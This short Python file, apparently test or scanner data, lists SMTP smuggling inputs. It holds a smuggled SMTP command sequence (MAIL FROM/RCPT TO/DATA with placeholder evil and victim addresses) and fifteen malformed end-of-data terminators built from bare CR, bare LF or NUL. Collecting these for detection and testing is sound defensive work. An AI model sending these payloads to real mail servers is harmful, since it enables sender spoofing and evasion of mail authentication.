"""What SMTP smuggling sends: octets that some servers take for the end of a message, and the commands behind them."""

SMUGGLED = b"MAIL FROM:<evil@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nevil\r\n"
TERMINATORS = [
    b"\n.\n",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r",
    b"\r\n.\r",
    b"\r.\r\n",
    b"\n.\r",
    b"\r.\n",
    b"\r\r\n.\r\r\n",
    b"\r\n.\r\r\n",
    b"\n\r\n.\n\r\n",
    b"\n\n.\n\n",
    b"\r\n.\n\r\n",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
]
"""Ends of no message: content with a bare CR, a bare LF or a NUL."""
